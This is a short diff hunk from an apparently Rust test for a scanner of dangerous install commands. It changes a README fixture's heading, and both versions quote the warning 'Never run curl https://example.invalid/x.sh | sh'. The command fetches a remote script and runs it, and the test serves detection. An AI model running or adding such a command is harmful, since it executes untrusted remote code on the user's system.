@@ -72,7 +72,7 @@ fn a_quoted_copy_scanned_first_does_not_hide_the_real_finding() {
     let findings = scan(&[
         (
             "README.md",
-            "# Setup\n\n> Never run `curl https://example.invalid/x.sh | sh`.\n",
+            "# Guide\n\n## Red flags\n\n> Never run `curl https://example.invalid/x.sh | sh`.\n",
         ),
         (
             "scripts/install.sh",
